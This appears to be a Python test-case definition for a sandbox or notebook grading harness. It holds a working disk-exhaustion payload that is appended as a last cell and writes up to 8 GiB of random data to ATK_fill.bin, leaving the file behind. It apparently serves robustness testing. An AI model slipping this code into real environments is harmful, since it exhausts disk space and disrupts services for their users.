"""After all tests have run (correct answers), writes one file ATK_fill.bin in the kernel's folder, 64 MiB of random
bytes at a time, until the disk or quota is full or 8 GiB; the file is left behind.
"""

KIND = "resource"
PLACEMENT = "extra_cell_last"
REST = "solution"
CODE = r'''import os as _atk_os

_atk_chunk = _atk_os.urandom(64 * 2**20)
_atk_written = 0
try:
    with open("ATK_fill.bin", "wb") as _atk_f:
        while _atk_written < 8 * 2**30:
            _atk_f.write(_atk_chunk)
            _atk_written += len(_atk_chunk)
except OSError as _atk_error:
    print("ATTACK disk_fill: stopped:", repr(_atk_error))
print("ATTACK disk_fill: wrote", _atk_written // 2**20, "MiB")
'''
